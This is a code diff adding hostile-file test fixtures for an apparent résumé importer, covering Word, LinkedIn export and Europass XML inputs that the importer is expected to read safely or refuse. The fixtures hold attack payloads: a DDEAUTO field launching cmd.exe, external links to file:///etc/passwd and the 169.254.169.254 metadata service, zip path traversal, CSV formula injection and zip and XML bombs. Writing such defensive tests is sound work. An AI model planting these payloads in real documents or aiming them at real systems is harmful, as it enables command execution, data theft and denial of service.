@@ -98,6 +98,67 @@ const archives: HostileFile[] = [
   ),
 ];
 
+/** Each of many files is harmless; together they are not. */
+function linkedInBomb(): Uint8Array {
+  const rows = new Uint8Array(4 * 2 ** 20).fill(97);
+  for (let at = 0; at < rows.length; at += 50) rows[at] = 48 + ((at * 7919) % 10);
+  return zipFile(Object.fromEntries(Array.from({ length: 20 }, (_, at) => [`${at}/Skills.csv`, rows])));
+}
+
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const outside = (id: string, type: string, target: string): string =>
+  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;
+
+/** What Word would run, load or fetch; an importer only reads. */
+const active: HostileFile[] = [
+  read('Word file with macros and an embedded program', () =>
+    docxFile({
+      body: `${body}<w:p><w:r><w:object><o:OLEObject xmlns:o="o" r:id="ole" ProgID="Package" xmlns:r="${OFFICE}"/></w:object></w:r></w:p>`,
+      files: {
+        'word/vbaProject.bin': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0),
+        'word/embeddings/oleObject1.bin': Uint8Array.of(0x4d, 0x5a),
+        'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="ax"/>',
+      },
+    }),
+  ),
+  read('Word file whose template, pictures and parts lie elsewhere', () =>
+    docxFile({
+      body: `${body}<w:p><w:altChunk r:id="b" xmlns:r="${OFFICE}"/></w:p>`,
+      files: {
+        'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${[
+          outside('a', 'attachedTemplate', 'http://127.0.0.1:9/evil.dotm'),
+          outside('b', 'aFChunk', 'file:///etc/passwd'),
+          outside('c', 'image', '\\\\127.0.0.1\\share\\a.png'),
+          outside('d', 'header', 'http://169.254.169.254/latest/meta-data'),
+        ].join('')}</Relationships>`,
+      },
+    }),
+  ),
+  read('Word file with fields that start programs', () =>
+    docxFile({
+      body: `${body}<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/></w:p>`,
+    }),
+  ),
+  refused('Word file whose main part lies elsewhere', () =>
+    docxFile({
+      body: '',
+      files: {
+        '_rels/.rels': `<Relationships>${outside('a', 'officeDocument', 'http://127.0.0.1:9/document.xml')}</Relationships>`,
+      },
+    }),
+  ),
+  refused('LinkedIn export of 20 files of 4 MiB', linkedInBomb, BURSTS),
+  refused('LinkedIn export with a name that leads outside', () =>
+    zipFile({ '../Profile.csv': 'First Name,Last Name,Headline\nJane,Smith,x\n' }),
+  ),
+  either('LinkedIn export of formulas', () =>
+    zipFile({
+      'Profile.csv': 'First Name,Last Name,Headline\n"=HYPERLINK(""http://127.0.0.1:9"")",Smith,@SUM(1+1)*cmd|calc\n',
+      'Positions.csv': 'Company Name,Title,Started On\n-2+3+cmd|calc,+Engineer,Jan 2019\n',
+    }),
+  ),
+];
+
 const NAMESPACE = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
 const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${[...'bcdefghij']
   .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
@@ -165,6 +226,19 @@ const xml: HostileFile[] = [
       `<Candidate>${`<a ${Array.from({ length: 50 }, (_, at) => `xmlns:n${at}="u"`).join(' ')}/>`.repeat(3000)}</Candidate>`,
     ),
   ),
+  refused(
+    'Europass file with 100,000 elements',
+    () =>
+      bytesOf(
+        `<Candidate><CandidatePerson><PersonName><GivenName>Jane</GivenName></PersonName></CandidatePerson>${'<a>b</a>'.repeat(100_000)}</Candidate>`,
+      ),
+    /more than [\d,]+ (?:elements|values)/,
+  ),
+  either('Europass file with 45,000 jobs', () =>
+    bytesOf(
+      `<Candidate><CandidatePerson><PersonName><GivenName>Jane</GivenName></PersonName></CandidatePerson><CandidateProfile><EmploymentHistory>${'<EmployerHistory><a/></EmployerHistory>'.repeat(45_000)}</EmploymentHistory></CandidateProfile></Candidate>`,
+    ),
+  ),
   refused('XML of a milliard less-than signs', () => bytesOf(`<?xml version="1.0"?><a>${'<'.repeat(5_000_000)}`)),
   refused('XML with a comment that never ends', () => bytesOf(`<?xml version="1.0"?><a><!--${'-'.repeat(9_000_000)}`)),
 ];
@@ -180,4 +254,4 @@ function incompressible(length: number): string {
   return letters.toString('latin1');
 }
 
-export const archiveFiles: readonly HostileFile[] = [...archives, ...xml];
+export const archiveFiles: readonly HostileFile[] = [...archives, ...active, ...xml];
